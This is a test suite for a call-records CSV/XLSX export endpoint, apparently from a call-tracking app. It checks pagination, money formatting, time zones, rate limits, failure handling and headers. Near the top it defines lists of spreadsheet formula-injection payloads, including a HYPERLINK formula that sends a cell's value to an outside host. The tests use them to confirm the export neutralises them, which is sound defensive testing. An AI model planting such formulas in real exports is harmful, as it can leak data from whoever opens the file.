import { request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Readable } from 'node:stream';
import { DISPLAY_TIME_ZONE, RECORD_COLUMNS, RECORD_TIME_FORMAT, recordColumnValue, type CallRecord } from '@callboard/contract';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { DateTime } from 'luxon';
import Papa from 'papaparse';
import type { Database } from '../src/db/database';
import exportRoutes from '../src/routes/api/calls/export';
import { bearer, buildTestApp, signUp, type SignedIn, type TestApp } from './support/test-app';
import { createTestDatabase } from './support/test-database';

const KEY = 'test-ingest-key-export-0123456789';
const HOSTILE = [
  '=HYPERLINK("http://x/?"&A1,"x")',
  '+cmd',
  '-1+2',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  'a","=1',
  '=1+2";=1+2',
];
const FORMULA_START = /^[=+\-@\t\r]/;
/** Formulas behind characters a sheet cannot carry, and what each cell must hold once they are removed. */
const HIDDEN_FORMULAS: Array<[string, string]> = [
  ['\u0001=HYPERLINK("http://x/?"&A1,"x")', '\'=HYPERLINK("http://x/?"&A1,"x")'],
  ['\u0002\u001F+cmd', "'+cmd"],
  ['\u000B@SUM(1)', "'@SUM(1)"],
  ['\uFFFE-1+2', "'-1+2"],
];
/** What a file holds when no columns are asked for: the records table's default columns. */
const DEFAULT_COLUMNS = RECORD_COLUMNS.filter((c) => c.visible);
const HEADERS = DEFAULT_COLUMNS.map((c) => c.label);
const DURATION = RECORD_COLUMNS.findIndex((c) => c.key === 'durationSec');
const TIME = RECORD_COLUMNS.findIndex((c) => c.key === 'callTimestamp');
const PUBLISHER = RECORD_COLUMNS.findIndex((c) => c.key === 'publisherName');
const SYSTEM_CALL_ID = RECORD_COLUMNS.findIndex((c) => c.key === 'systemCallId');

// Each data set lives on its own New York days, so the tests never depend on today's date.
const HOSTILE_RANGE = 'datePreset=custom&startDate=2025-03-08T00:00&endDate=2025-03-11T00:00'; // across the March DST change
const MICRO_RANGE = 'datePreset=custom&startDate=2025-04-02T00:00&endDate=2025-04-03T00:00';
const CONTROL_RANGE = 'datePreset=custom&startDate=2025-05-06T00:00&endDate=2025-05-07T00:00';
const BULK_RANGE = 'datePreset=custom&startDate=2025-06-10T00:00&endDate=2025-06-11T00:00';
const BULK_CALLS = 2500;
const MONEY_RANGE = 'datePreset=custom&startDate=2025-07-01T00:00&endDate=2025-07-02T00:00';
/** Columns as Reporting asks for them when its table shows these: the money and call facts among them. */
const SHOWN = 'callTimestamp,callerId,connected,repeat,revenue,payout,profit';
const SHOWN_HEADERS = ['Time Stamp', 'CID', 'Connected', 'Repeat', 'Revenue', 'Payout', 'Profit'];

/** The database under the app, with a switch that makes export statements fail. */
let failExportStatement: ((n: number) => boolean) | undefined;
let exportStatements = 0;

let t: TestApp;
/** A fresh account per test: each has its own export allowance. */
let user: SignedIn;
beforeAll(async () => {
  const database = await createTestDatabase();
  const real = database.db;
  const db: Database = {
    ...real,
    async query(text, params) {
      if (text.includes('cursor_ts')) {
        exportStatements += 1;
        if (failExportStatement?.(exportStatements)) {
          await new Promise((r) => setTimeout(r, 30));
          throw new Error('simulated failure during an export');
        }
      }
      return real.query(text, params);
    },
    // PostgreSQL exports CSV through one COPY: a failure there is a stream that dies part-way.
    copyOut: real.copyOut
      ? async (sql: string) => {
          const source = await real.copyOut!(sql);
          exportStatements += 1;
          // COPY is the export's one statement: failing its number fails it before any output; failing a
          // later one (a batch the keyset path would have read) makes it die after some rows.
          const fails = failExportStatement;
          const failsAtOnce = fails?.(exportStatements) ?? false;
          const failsLater = !failsAtOnce && [1, 2, 3].some((k) => fails?.(exportStatements + k));
          if (!failsAtOnce && !failsLater) return source;
          source.destroy();
          let sent = false;
          return new Readable({
            read() {
              if (failsAtOnce) {
                setTimeout(() => this.destroy(new Error('simulated failure during an export')), 10);
              } else if (!sent) {
                sent = true;
                this.push('"Time Stamp","Publisher"\n"Jun 10 01:00:00 PM","Pub"\n');
                setTimeout(() => this.destroy(new Error('simulated failure during an export')), 30);
              }
            },
          });
        }
      : undefined,
  };
  t = await buildTestApp({
    ingestApiKey: KEY,
    database: { ...database, db },
    extraRoutes: (f) => {
      // A second mount with a tiny XLSX cap and tiny batches, so the keyset's batch edges are crossed many times.
      f.register(exportRoutes, { prefix: '/api/tight/calls', xlsxMaxRows: 10, batchSize: 7 });
    },
  });
  // The first account becomes admin; every test exports as an ordinary user.
  await signUp(t.app);

  await ingest(hostileCalls());
  await ingest(
    HIDDEN_FORMULAS.map(([hostile], i) =>
      call(`control-${i}`, `2025-05-06T1${i}:00:00.000Z`, {
        callerId: hostile,
        transcript: hostile,
        qc: { disposition: 'Sales', reason: hostile, summary: hostile },
      }),
    ),
  );
  // Money to the cent, a call that never connected, and a repeat (the same caller to the same campaign an hour later).
  await ingest([
    call('money-0', '2025-07-01T14:00:00.000Z', { callerId: '+15557770001', connected: true, revenue: 12.3, payout: 4.1 }),
    call('money-1', '2025-07-01T15:00:00.000Z', { callerId: '+15557770001', connected: false, revenue: 0, payout: '25' }),
    call('money-2', '2025-07-01T16:00:00.000Z', { callerId: '+15557770002', connected: true, revenue: '1000.05', payout: 0.05 }),
  ]);
  await ingest(Array.from({ length: 10 }, (_, i) => call(`micro-${i}`, '2025-04-02T15:00:00.000Z', { callerId: `+1555700${i}` })));
  // Same millisecond, different microseconds: a cursor kept as a JS Date would skip or repeat some of these.
  await t.db.query(
    `UPDATE calls SET call_ts = call_ts + (substring(system_call_id from 7)::int * interval '1 microsecond') WHERE system_call_id LIKE 'micro-%'`,
  );
  const transcript = 'Caller asked about plan options and pricing; agent explained coverage. '.repeat(10);
  for (let start = 0; start < BULK_CALLS; start += 500) {
    await ingest(
      Array.from({ length: 500 }, (_, k) => {
        const i = start + k;
        return call(`bulk-${i}`, new Date(Date.parse('2025-06-10T13:00:00Z') + i * 9_000).toISOString(), { transcript, publisherName: `Bulk Pub ${i % 4}` });
      }),
    );
  }
}, 120_000);
afterAll(() => t.close());
beforeEach(async () => {
  user = await signUp(t.app);
});

function call(systemCallId: string, callTimestamp: string, extra: Record<string, unknown> = {}) {
  return {
    systemCallId,
    callTimestamp,
    callerId: '+15550001111',
    campaignName: 'Medicare',
    publisherName: 'Pub A',
    targetName: 'Target A',
    buyerName: 'Buyer A',
    durationSec: 42,
    qc: { disposition: 'Sales', reason: 'qualified', summary: 'ok' },
    ...extra,
  };
}

function hostileCalls() {
  const base = Date.parse('2025-03-09T07:00:00Z') - 20 * 7 * 60_000;
  return Array.from({ length: 40 }, (_, i) => {
    // Calls 30–35 share one timestamp: ties the (call_ts, id) keyset must order and never repeat or drop.
    const ts = i >= 30 && i <= 35 ? base + 30 * 7 * 60_000 : base + i * 7 * 60_000 + i * 1000;
    return call(`hostile-${i}`, new Date(ts).toISOString(), {
      callerId: i < HOSTILE.length ? HOSTILE[i] : `+1555000${String(i).padStart(4, '0')}`,
      publisherName: `Pub ${i % 3}`,
      transcript: HOSTILE[(i + 3) % HOSTILE.length],
      durationSec: i * 37,
      qc: { disposition: ['Sales', 'Voicemail', 'DNC'][i % 3], sub_disposition: HOSTILE[(i + 5) % HOSTILE.length], reason: HOSTILE[(i + 1) % HOSTILE.length], summary: HOSTILE[(i + 2) % HOSTILE.length] },
    });
  });
}

async function ingest(calls: unknown[]) {
  const response = await t.app.inject({ method: 'POST', url: '/api/ingest/calls', headers: { 'x-api-key': KEY }, payload: { calls } });
  expect(response.statusCode).toBe(200);
  expect(response.json().data.rejected).toEqual([]);
}

function exportUrl(query: string, prefix = '/api/calls') {
  return `${prefix}/export?${query}`;
}

async function get(url: string, token = user.token) {
  return t.app.inject({ url, headers: bearer(token) });
}

function parseCsv(body: string): string[][] {
  expect(body.startsWith('\uFEFF')).toBe(true);
  const parsed = Papa.parse<string[]>(body.slice(1), { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

async function records(query: string): Promise<CallRecord[]> {
  const response = await get(`/api/calls/records?${query}&limit=200`);
  expect(response.statusCode).toBe(200);
  return response.json().data;
}

async function totalCalls(query: string): Promise<number> {
  return (await get(`/api/stats?${query}`)).json().data.totalCalls;
}

const nyTime = (iso: string) => DateTime.fromISO(iso, { zone: DISPLAY_TIME_ZONE }).setLocale('en-US').toFormat(RECORD_TIME_FORMAT);
const expectedText = (value: string | null) => (value === null ? '' : FORMULA_START.test(value) ? `'${value}` : value);

async function readAll(stream: Readable): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks).toString('utf8');
}

describe('CSV', () => {
  test('every row of the selection, the table columns in order, New York times, neutralised text, bare numbers', async () => {
    const response = await get(exportUrl(`fmt=csv&${HOSTILE_RANGE}`));
    expect(response.statusCode).toBe(200);
    const total = await totalCalls(HOSTILE_RANGE);
    expect(total).toBe(40);
    expect(response.headers['x-total-count']).toBe('40');

    const [header, ...rows] = parseCsv(response.body);
    expect(header).toEqual(HEADERS);
    expect(rows).toHaveLength(total);
    for (const row of rows) expect(row).toHaveLength(HEADERS.length);

    // Same rows, same order as the records table sorted by time (newest first).
    const expected = await records(HOSTILE_RANGE);
    expect(rows.map((r) => r[SYSTEM_CALL_ID])).toEqual(expected.map((r) => `${r.systemCallId}`));
    rows.forEach((row, i) => {
      const record = expected[i] as CallRecord;
      expect(row[TIME]).toMatch(/^[A-Z][a-z]{2} \d{2} \d{2}:\d{2}:\d{2} (AM|PM)$/);
      expect(row[TIME]).toBe(nyTime(record.callTimestamp));
      DEFAULT_COLUMNS.forEach((column, c) => {
        if (column.key === 'callTimestamp') return;
        const value = recordColumnValue(record, column.key);
        expect(row[c]).toBe(column.key === 'durationSec' ? String(value) : expectedText(value as string | null));
      });
    });
    // The March clock change falls inside the range: both offsets are rendered.
    expect(rows.some((r) => / 01:\d{2}:\d{2} AM$/.test(r[TIME] as string))).toBe(true);
    expect(rows.some((r) => / 03:\d{2}:\d{2} AM$/.test(r[TIME] as string))).toBe(true);

    // Hostile texts: each one that a spreadsheet would read as a formula starts with ' and no cell is split.
    const hostileCells = rows.flat().filter((cell) => HOSTILE.some((h) => cell.includes(h.trim())));
    expect(hostileCells.length).toBeGreaterThan(100);
    for (const cell of hostileCells) {
      if (cell !== 'a","=1') expect(cell.startsWith("'")).toBe(true);
    }
    expect(rows.flat()).not.toContain('=1');
    expect(rows.flat()).toContain('a","=1');
    expect(response.body).toContain('"\'=1+2"";=1+2"');

    // Durations are bare numbers between quoted text fields.
    const bare = [...response.body.matchAll(/",(\d+),"/g)].map((m) => m[1]);
    expect(bare).toEqual(rows.map((r) => r[DURATION]));
  });

  test('the keyset crosses batch edges without repeating or dropping a call, ties and microseconds included', async () => {
    const small = parseCsv((await get(exportUrl(`fmt=csv&${HOSTILE_RANGE}`, '/api/tight/calls'))).body);
    const large = parseCsv((await get(exportUrl(`fmt=csv&${HOSTILE_RANGE}`))).body);
    expect(small).toEqual(large);

    const micro = parseCsv((await get(exportUrl(`fmt=csv&${MICRO_RANGE}`, '/api/tight/calls'))).body).slice(1);
    expect(micro.map((r) => r[SYSTEM_CALL_ID])).toEqual(Array.from({ length: 10 }, (_, i) => `micro-${9 - i}`));

    const bulk = parseCsv((await get(exportUrl(`fmt=csv&${BULK_RANGE}`))).body).slice(1);
    expect(bulk).toHaveLength(BULK_CALLS);
    expect(bulk[0]?.[SYSTEM_CALL_ID]).toBe(`bulk-${BULK_CALLS - 1}`);
    expect(new Set(bulk.map((r) => r[SYSTEM_CALL_ID])).size).toBe(BULK_CALLS);
  });

  test('filters apply: a publisher exports only its calls', async () => {
    const pubs = (await get(`/api/filters/publishers?${HOSTILE_RANGE}`)).json().data.publishers as Array<{ value: string; label: string; count: number }>;
    const pub = pubs.find((p) => p.label === 'Pub 1');
    expect(pub).toBeDefined();
    const response = await get(exportUrl(`fmt=csv&${HOSTILE_RANGE}&publisher=${pub?.value}`));
    const rows = parseCsv(response.body).slice(1);
    expect(rows.length).toBe(pub?.count);
    expect(response.headers['x-total-count']).toBe(String(pub?.count));
    expect(new Set(rows.map((r) => r[PUBLISHER]))).toEqual(new Set(['Pub 1']));

    const sales = parseCsv((await get(exportUrl(`fmt=csv&${HOSTILE_RANGE}&status=Sales`))).body).slice(1);
    expect(sales.length).toBe(await totalCalls(`${HOSTILE_RANGE}&status=Sales`));
    expect(new Set(sales.map((r) => r[RECORD_COLUMNS.findIndex((c) => c.key === 'status')]))).toEqual(new Set(['Sales']));
  });

  test('the columns asked for, in their order: money to the cent as bare numbers, profit = revenue − payout, Yes / No', async () => {
    const expected = await records(MONEY_RANGE);
    const money = (n: number) => n.toFixed(2);
    // On PostgreSQL the first is one COPY and the tight mount the same; on PGlite both are keyset batches (of 7 on the tight one).
    for (const prefix of ['/api/calls', '/api/tight/calls']) {
      const response = await get(exportUrl(`fmt=csv&${MONEY_RANGE}&columns=${SHOWN}`, prefix));
      expect(response.statusCode).toBe(200);
      const [header, ...rows] = parseCsv(response.body);
      expect(header).toEqual(SHOWN_HEADERS);
      // A caller id starting with + is a formula to a spreadsheet: it gets its leading quote, as everywhere in the file.
      expect(rows).toEqual([
        [nyTime('2025-07-01T16:00:00.000Z'), "'+15557770002", 'Yes', 'No', '1000.05', '0.05', '1000.00'],
        [nyTime('2025-07-01T15:00:00.000Z'), "'+15557770001", 'No', 'Yes', '0.00', '25.00', '-25.00'],
        [nyTime('2025-07-01T14:00:00.000Z'), "'+15557770001", 'Yes', 'No', '12.30', '4.10', '8.20'],
      ]);
      // The same figures the records answer carries, and the money bare between quoted text.
      expect(rows.map((r) => [r[4], r[5]])).toEqual(expected.map((r) => [money(r.revenue!), money(r.payout!)]));
      expect(rows.map((r) => r[3])).toEqual(expected.map((r) => (r.repeat ? 'Yes' : 'No')));
      // The line ends as each path writes it: CRLF from the batch writer, LF from PostgreSQL's COPY.
      expect(response.body).toMatch(/"No","Yes",0\.00,25\.00,-25\.00\r?\n/);
    }
    // Another order is kept as asked.
    const reordered = parseCsv((await get(exportUrl(`fmt=csv&${MONEY_RANGE}&columns=profit,callerId`))).body);
    expect(reordered[0]).toEqual(['Profit', 'CID']);
    expect(reordered[1]).toEqual(['1000.00', "'+15557770002"]);
  });

  test('headers: the server names the file, whatever the client asks; never cached; not sniffed', async () => {
    const response = await get(exportUrl(`fmt=csv&${HOSTILE_RANGE}&filename=../../x.js`));
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="call_records_\d{8}T\d{6}Z\.csv"$/);
    expect(response.headers['cache-control']).toBe('no-store');
    expect(response.headers['x-content-type-options']).toBe('nosniff');

    const xlsx = await get(exportUrl(`fmt=xlsx&${HOSTILE_RANGE}&filename=../../x.js`));
    expect(xlsx.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(xlsx.headers['content-disposition']).toMatch(/^attachment; filename="call_records_\d{8}T\d{6}Z\.xlsx"$/);
    expect(xlsx.headers['cache-control']).toBe('no-store');
  });

  test('an empty selection is a file with the header row only', async () => {
    const empty = 'datePreset=custom&startDate=2024-01-01T00:00&endDate=2024-01-02T00:00';
    const response = await get(exportUrl(`fmt=csv&${empty}`));
    expect(response.statusCode).toBe(200);
    expect(response.headers['x-total-count']).toBe('0');
    expect(parseCsv(response.body)).toEqual([HEADERS]);

    const xlsx = await get(exportUrl(`fmt=xlsx&${empty}`));
    expect(xlsx.statusCode).toBe(200);
    const sheet = await (await JSZip.loadAsync(xlsx.rawPayload)).file('xl/worksheets/sheet1.xml')?.async('string');
    expect(sheet?.match(/<row[\s>]/g)).toHaveLength(1);
  });
});

describe('the database connection an export used', () => {
  test('goes back to the pool with the ordinary settings: 5 s statement limit, parallel plans, no JIT', async () => {
    const response = await get(exportUrl(`fmt=csv&${BULK_RANGE}`));
    expect(response.statusCode).toBe(200);
    expect(parseCsv(response.body).length).toBeGreaterThan(1);
    // As many queries at once as the pool has connections: one of them is the one COPY used.
    const settings = await Promise.all(
      Array.from({ length: 10 }, () =>
        t.db.query<Record<string, string>>(
          `SELECT current_setting('statement_timeout') AS statement_timeout, current_setting('jit') AS jit,
             current_setting('max_parallel_workers_per_gather') AS workers, current_setting('random_page_cost') AS page_cost,
             pg_sleep(0.05)::text AS slept`,
        ),
      ),
    );
    const expected =
      t.db.kind === 'postgres'
        ? { statement_timeout: '5s', jit: 'off', workers: '2', page_cost: '4', slept: '' }
        : // PGlite exports in short batches on its one connection and keeps its own defaults (it has no JIT or workers to use).
          { statement_timeout: '0', jit: 'on', workers: '0', page_cost: '4', slept: '' };
    expect(settings.map(([row]) => row)).toEqual(Array.from({ length: 10 }, () => expected));
  });
});

describe('XLSX', () => {
  async function sheetXml(query: string, prefix?: string): Promise<string> {
    const response = await get(exportUrl(`fmt=xlsx&${query}`, prefix));
    expect(response.statusCode).toBe(200);
    const zip = await JSZip.loadAsync(response.rawPayload);
    const sheet = zip.file('xl/worksheets/sheet1.xml');
    expect(sheet).not.toBeNull();
    return (await sheet?.async('string')) as string;
  }

  const unescapeXml = (s: string) =>
    s.replace(/&(lt|gt|quot|apos|amp);/g, (_, e: string) => ({ lt: '<', gt: '>', quot: '"', apos: "'", amp: '&' })[e] as string).replace(/_x000D_/g, '\r');

  /** Rows of cells: { ref column letter, type attribute, text }. */
  function cells(xml: string) {
    return [...xml.matchAll(/<row[^>]*>([\s\S]*?)<\/row>/g)].map((row) =>
      [...(row[1] as string).matchAll(/<c r="([A-Z]+)\d+"([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)].map((c) => {
        const type = /t="(\w+)"/.exec(c[2] as string)?.[1];
        const inner = c[3] ?? '';
        const text = /<t[^>]*>([\s\S]*?)<\/t>/.exec(inner)?.[1] ?? /<v>([\s\S]*?)<\/v>/.exec(inner)?.[1] ?? '';
        return { col: c[1] as string, type, text: unescapeXml(text), inner };
      }),
    );
  }

  test('no formulas, numbers as numeric cells, hostile text neutralised, one row per call', async () => {
    const xml = await sheetXml(HOSTILE_RANGE);
    expect(xml).not.toMatch(/<f[\s>]/);
    const [header, ...rows] = cells(xml);
    expect(header?.map((c) => c.text)).toEqual(HEADERS);
    expect(rows).toHaveLength(await totalCalls(HOSTILE_RANGE));

    const durationCol = String.fromCharCode(65 + DURATION);
    const expected = await records(HOSTILE_RANGE);
    rows.forEach((row, i) => {
      const duration = row.find((c) => c.col === durationCol);
      expect(duration?.type).toBeUndefined(); // a plain <c> with <v> is a number
      expect(duration?.inner).toMatch(/^<v>\d+<\/v>$/);
      expect(Number(duration?.text)).toBe(expected[i]?.durationSec);
      expect(row.find((c) => c.col === 'A')?.text).toBe(nyTime((expected[i] as CallRecord).callTimestamp));
    });
    const texts = rows.flat().filter((c) => c.col !== durationCol).map((c) => c.text);
    const hostile = texts.filter((text) => HOSTILE.some((h) => text.includes(h.trim())));
    expect(hostile.length).toBeGreaterThan(100);
    for (const text of hostile) if (text !== 'a","=1') expect(text.startsWith("'")).toBe(true);
  });

  test('the columns asked for: money as numeric cells, Yes / No as text', async () => {
    const [header, ...rows] = cells(await sheetXml(`${MONEY_RANGE}&columns=${SHOWN}`));
    expect(header?.map((c) => c.text)).toEqual(SHOWN_HEADERS);
    expect(rows.map((row) => row.map((c) => c.text))).toEqual([
      [nyTime('2025-07-01T16:00:00.000Z'), "'+15557770002", 'Yes', 'No', '1000.05', '0.05', '1000'],
      [nyTime('2025-07-01T15:00:00.000Z'), "'+15557770001", 'No', 'Yes', '0', '25', '-25'],
      [nyTime('2025-07-01T14:00:00.000Z'), "'+15557770001", 'Yes', 'No', '12.3', '4.1', '8.2'],
    ]);
    for (const row of rows) {
      for (const cell of row.slice(4)) expect(cell.type).toBeUndefined(); // a plain <c> with <v> is a number
      for (const cell of row.slice(0, 4)) expect(cell.type).toBeDefined();
    }
  });

  test('many rows across batches', async () => {
    const rows = cells(await sheetXml(BULK_RANGE)).slice(1);
    expect(rows).toHaveLength(BULK_CALLS);
  });

  test('above the cap: 422 with a message saying what to do; CSV of the same selection is fine', async () => {
    const response = await get(exportUrl(`fmt=xlsx&${BULK_RANGE}`, '/api/tight/calls'));
    expect(response.statusCode).toBe(422);
    expect(response.json()).toEqual({
      success: false,
      code: 'UNPROCESSABLE',
      message: 'XLSX export is limited to 10 rows and this selection has 2,500. Narrow the date range or export CSV.',
    });
    expect((await get(exportUrl(`fmt=csv&${BULK_RANGE}`, '/api/tight/calls'))).statusCode).toBe(200);
  });
});

describe('control characters in front of a formula', () => {
  const TEXT_COLUMNS = ['callerId', 'transcript', 'reason', 'summary'].map((key) => RECORD_COLUMNS.findIndex((c) => c.key === key));
  /** The expected cells of the control-character calls, oldest first as ingested; the export lists newest first. */
  const expectedRows = () => HIDDEN_FORMULAS.map(([, cell]) => TEXT_COLUMNS.map(() => cell)).reverse();

  test('XLSX: they are removed before the formula check, so each formula still gets its leading quote', async () => {
    const response = await get(exportUrl(`fmt=xlsx&${CONTROL_RANGE}`));
    expect(response.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0] as ExcelJS.Worksheet;
    expect(sheet.rowCount).toBe(1 + HIDDEN_FORMULAS.length);
    const rows = Array.from({ length: HIDDEN_FORMULAS.length }, (_, r) => TEXT_COLUMNS.map((c) => sheet.getRow(r + 2).getCell(c + 1)));
    for (const cell of rows.flat()) {
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
    }
    expect(rows.map((row) => row.map((cell) => cell.value))).toEqual(expectedRows());
  });

  test('CSV: the same cells', async () => {
    for (const prefix of ['/api/calls', '/api/tight/calls']) {
      const rows = parseCsv((await get(exportUrl(`fmt=csv&${CONTROL_RANGE}`, prefix))).body).slice(1);
      expect(rows.map((row) => TEXT_COLUMNS.map((c) => row[c]))).toEqual(expectedRows());
    }
  });
});

describe('requests refused', () => {
  test('signed out → 401; a bad format, filter or column → 400', async () => {
    expect((await t.app.inject({ url: exportUrl(`fmt=csv&${HOSTILE_RANGE}`) })).statusCode).toBe(401);
    for (const query of ['fmt=pdf', '', 'fmt=csv&datePreset=forever', 'fmt=csv&publisher=abc', 'fmt=csv&columns=', 'fmt=csv&columns=callerId,margin']) {
      const response = await get(exportUrl(query));
      expect(response.statusCode).toBe(400);
      expect(response.json().code).toBe('VALIDATION_ERROR');
    }
    expect((await get(exportUrl(`fmt=csv&${HOSTILE_RANGE}&columns=callerId,margin`))).json().message).toMatch(/^columns: unknown column "margin"/);
  });
});

describe('limits per user', () => {
  test('one export at a time: a second one while the first is still streaming → 429', async () => {
    const user = await signUp(t.app);
    // The first download is not read, so backpressure holds its export open.
    const first = await t.app.inject({ url: exportUrl(`fmt=csv&${BULK_RANGE}`), headers: bearer(user.token), payloadAsStream: true });
    expect(first.statusCode).toBe(200);
    const second = await get(exportUrl(`fmt=csv&${HOSTILE_RANGE}`), user.token);
    expect(second.statusCode).toBe(429);
    expect(second.json()).toMatchObject({ code: 'RATE_LIMITED', message: 'An export is already running; wait for it to finish' });
    // Another user is not held up.
    expect((await get(exportUrl(`fmt=csv&${HOSTILE_RANGE}`))).statusCode).toBe(200);

    const body = await readAll(first.stream());
    expect(parseCsv(body)).toHaveLength(BULK_CALLS + 1);
    expect((await get(exportUrl(`fmt=csv&${HOSTILE_RANGE}`), user.token)).statusCode).toBe(200);
  });

  test('five a minute: the sixth → 429 with Retry-After', async () => {
    const user = await signUp(t.app);
    for (let i = 0; i < 5; i += 1) expect((await get(exportUrl(`fmt=csv&${MICRO_RANGE}`), user.token)).statusCode).toBe(200);
    const sixth = await get(exportUrl(`fmt=csv&${MICRO_RANGE}`), user.token);
    expect(sixth.statusCode).toBe(429);
    expect(sixth.json().code).toBe('RATE_LIMITED');
    const retryAfter = Number(sixth.headers['retry-after']);
    expect(retryAfter).toBeGreaterThan(0);
    expect(retryAfter).toBeLessThanOrEqual(60);
  });

  test('a client that leaves mid-download stops the work and frees its slot at once', async () => {
    const user = await signUp(t.app);
    await t.app.listen({ port: 0, host: '127.0.0.1' });
    const { port } = t.app.server.address() as AddressInfo;
    exportStatements = 0;
    // Tiny batches: this export takes hundreds of statements, so it is far from done when the client leaves.
    const status = await new Promise<number>((resolve, reject) => {
      const req = httpRequest({ host: '127.0.0.1', port, path: exportUrl(`fmt=csv&${BULK_RANGE}`, '/api/tight/calls'), headers: bearer(user.token) }, (res) => {
        res.once('data', () => {
          resolve(res.statusCode as number);
          req.destroy();
        });
      });
      req.once('error', reject);
      req.end();
    });
    expect(status).toBe(200);
    let again = 429;
    for (let tries = 0; tries < 50 && again === 429; tries += 1) {
      await new Promise((r) => setTimeout(r, 20));
      again = (await get(exportUrl(`fmt=csv&${MICRO_RANGE}`, '/api/tight/calls'), user.token)).statusCode;
    }
    expect(again).toBe(200);
    // At most the one statement read ahead may still land; after that, nothing more runs.
    await new Promise((r) => setTimeout(r, 100));
    const statements = exportStatements;
    await new Promise((r) => setTimeout(r, 300));
    expect(exportStatements).toBe(statements);
    expect(statements).toBeLessThan(Math.ceil(BULK_CALLS / 7) / 2);
  });
});

describe('failures', () => {
  afterEach(() => {
    failExportStatement = undefined;
  });

  test('a failure before any byte is sent is an ordinary error reply', async () => {
    exportStatements = 0;
    failExportStatement = (n) => n === 1;
    const response = await get(exportUrl(`fmt=csv&${HOSTILE_RANGE}`));
    expect(response.statusCode).toBe(500);
    expect(response.json()).toEqual({ success: false, code: 'INTERNAL', message: 'Something went wrong on our side' });
    expect((await get(exportUrl(`fmt=csv&${HOSTILE_RANGE}`))).statusCode).toBe(200);
  });

  test.each([
    ['csv', '/api/tight/calls', HOSTILE_RANGE, 3],
    ['xlsx', '/api/calls', BULK_RANGE, 2],
  ] as const)('a failure mid-stream breaks the %s download instead of ending it as if complete', async (fmt, prefix, range, failing) => {
    exportStatements = 0;
    failExportStatement = (n) => n === failing;
    await expect(get(exportUrl(`fmt=${fmt}&${range}`, prefix))).rejects.toThrow(/destroyed before completion/);
    failExportStatement = undefined;
    // The slot was released with the broken response.
    expect((await get(exportUrl(`fmt=${fmt}&${range}`, prefix))).statusCode).toBe(200);
  });
});

test('the database renders times exactly as luxon does in New York, across both clock changes', async () => {
  const instants: number[] = [];
  for (const [from, to] of [
    ['2025-03-08T00:00:00Z', '2025-03-11T00:00:00Z'],
    ['2025-10-31T00:00:00Z', '2025-11-04T00:00:00Z'],
    ['1999-12-31T20:00:00Z', '2000-01-01T08:00:00Z'],
  ] as const) {
    for (let ms = Date.parse(from); ms < Date.parse(to); ms += 433_001) instants.push(ms);
  }
  for (let i = 0; i < 500; i += 1) instants.push(Math.floor(946_684_800_000 + ((i * 2_654_435_761) % 4_102_444_800_000)));
  const rows = await t.db.query<{ ms: string; shown: string }>(
    `SELECT ms::text, to_char(to_timestamp(ms / 1000.0) AT TIME ZONE '${DISPLAY_TIME_ZONE}', 'Mon DD HH12:MI:SS AM') AS shown
     FROM unnest($1::bigint[]) AS ms`,
    [instants],
  );
  expect(rows).toHaveLength(instants.length);
  for (const row of rows) {
    const ms = Number(row.ms);
    expect({ ms, shown: row.shown }).toEqual({ ms, shown: DateTime.fromMillis(Math.floor(ms / 1000) * 1000, { zone: DISPLAY_TIME_ZONE }).setLocale('en-US').toFormat(RECORD_TIME_FORMAT) });
  }
});
